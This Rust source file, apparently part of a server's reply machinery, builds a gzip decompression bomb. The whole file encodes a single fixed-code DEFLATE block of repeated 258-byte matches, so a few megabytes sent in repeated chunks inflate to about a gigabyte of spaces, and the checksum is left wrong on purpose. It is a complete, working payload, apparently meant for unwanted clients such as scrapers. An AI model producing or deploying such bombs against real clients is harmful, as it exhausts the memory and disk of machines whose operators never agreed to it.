//! A gzip body of a few megabytes that becomes a gigabyte of blanks.
//!
//! It is one DEFLATE block with fixed codes: a blank, then the same match of 258 bytes at distance 1 again and again.
//! A match takes 13 bits, so eight of them make 13 whole bytes, which can be repeated as they are.

use bytes::Bytes;

use super::reply::Step;

/// How large the body becomes, nearly.
const INFLATED_BYTES: u64 = 1 << 30;

/// Eight matches of 258 bytes.
const UNIT_INFLATED_BYTES: u64 = 8 * 258;

/// How many units one chunk holds.
const UNITS_IN_CHUNK: usize = 4096;

/// The header of a member: magic, DEFLATE, no name, no time.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

/// Returns the steps of the body. Its checksum is not right: who reads so far has already lost.
pub(super) fn steps() -> Vec<Step> {
    let mut writer = Bits::default();
    // Last block, fixed codes (01, least bit first).
    writer.push_value(1, 1);
    writer.push_value(1, 2);
    writer.push_code(0b0101_0000, 8);
    let opening_bits = writer.bits.len();
    let unit: Vec<bool> = match_bits().repeat(8);
    // The unit is shifted by the opening's bits; a rotation of the unit repeats at whole bytes.
    let lead = (8 - opening_bits % 8) % 8;
    let mut opening = writer.bits.clone();
    opening.extend(&unit[..lead]);
    let mut rotated = unit[lead..].to_vec();
    rotated.extend(&unit[..lead]);
    let unit_bytes = bytes_of(&rotated);
    let chunk = unit_bytes.repeat(UNITS_IN_CHUNK);
    let chunk_inflated = UNIT_INFLATED_BYTES * u64::try_from(UNITS_IN_CHUNK).unwrap_or(1);
    // The rest of the unit that was begun, then the end code and the trailer.
    let mut closing = unit[lead..].to_vec();
    closing.extend([false; 7]);
    let mut tail = bytes_of(&closing);
    tail.extend([0; 8]);
    let mut head = HEADER.to_vec();
    head.extend(bytes_of(&opening));
    vec![
        Step::Send(head.into()),
        Step::Repeat(Bytes::from(chunk), INFLATED_BYTES / chunk_inflated),
        Step::Send(tail.into()),
    ]
}

/// Returns the 13 bits of one match: length 258 (code 285), distance 1 (code 0).
fn match_bits() -> Vec<bool> {
    let mut bits = Bits::default();
    bits.push_code(0b1100_0101, 8);
    bits.push_code(0, 5);
    bits.bits
}

#[derive(Default)]
struct Bits {
    bits: Vec<bool>,
}

impl Bits {
    /// Adds a number, least bit first.
    fn push_value(&mut self, value: u32, bits: u32) {
        self.bits.extend((0..bits).map(|bit| value >> bit & 1 == 1));
    }

    /// Adds a code, most bit first.
    fn push_code(&mut self, code: u32, bits: u32) {
        self.bits.extend((0..bits).rev().map(|bit| code >> bit & 1 == 1));
    }
}

fn bytes_of(bits: &[bool]) -> Vec<u8> {
    let byte = |bits: &[bool]| {
        let places = bits.iter().enumerate();
        places.fold(0_u8, |byte, (place, bit)| byte | u8::from(*bit) << place)
    };
    bits.chunks(8).map(byte).collect()
}
